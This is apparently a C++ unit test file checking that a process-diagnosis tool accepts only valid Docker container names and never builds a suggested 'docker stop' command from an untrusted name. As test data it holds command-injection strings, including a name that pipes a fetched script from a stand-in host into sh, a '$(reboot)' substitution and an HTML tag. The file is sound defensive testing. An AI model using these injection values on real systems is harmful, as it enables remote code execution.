// A foreign holder's advice names a command to stop it (issue 36, redteam finding 4): a
// container name comes from a log or a `docker ps` paste, so a command is built only from a name
// Docker could have given; any other name is shown as text and the command is the pid's.
#include <catch2/catch.hpp>

#include <string>

#include "culprit/core/container_name.hpp"
#include "diagnose/advice.hpp"

using culprit::core::is_docker_name;
using culprit::diagnose::culprit_action;
using culprit::diagnose::ProcessRef;

TEST_CASE("is_docker_name is Docker's own grammar", "[diagnose]") {
  CHECK(is_docker_name("vllm-embeddings"));
  CHECK(is_docker_name("k8s_POD_x.y_1"));
  CHECK_FALSE(is_docker_name(""));
  CHECK_FALSE(is_docker_name("-rf"));
  CHECK_FALSE(is_docker_name(".hidden"));
  CHECK_FALSE(is_docker_name("vllm;curl${IFS}evil.sh|sh;#"));
  CHECK_FALSE(is_docker_name("a`b`"));
  CHECK_FALSE(is_docker_name("name with space"));
  CHECK_FALSE(is_docker_name("$(reboot)"));
}

TEST_CASE("a foreign holder's advice builds no docker command from a name Docker would not give", "[diagnose]") {
  ProcessRef p;
  p.host = "spark-b";
  p.pid = 48211;
  p.name = "python3";
  p.role = "foreign";
  p.container = "vllm-embeddings";
  CHECK(culprit_action(p).find("`docker stop vllm-embeddings` on spark-b") != std::string::npos);
  p.container = "vllm;curl${IFS}evil.sh|sh;#<img/src=x>";
  const std::string advice = culprit_action(p);
  CHECK(advice.find("docker stop vllm") == std::string::npos);
  CHECK(advice.find("curl") == std::string::npos);  // the name is the report's to show, not the command's
  CHECK(advice.find("`kill 48211` on spark-b") != std::string::npos);
  CHECK(advice.find("not one Docker gives") != std::string::npos);
}
